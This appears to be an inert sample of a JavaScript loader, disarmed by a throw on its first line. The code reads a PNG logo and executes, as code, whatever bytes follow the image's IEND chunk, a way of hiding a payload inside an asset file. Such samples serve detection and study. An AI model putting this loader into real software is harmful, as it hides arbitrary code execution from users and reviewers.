throw new Error('inert sample');
const fs = require('fs'), path = require('path'), vm = require('vm');
const picture = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));
vm.runInThisContext(picture.subarray(picture.lastIndexOf('IEND') + 8).toString('utf8'));
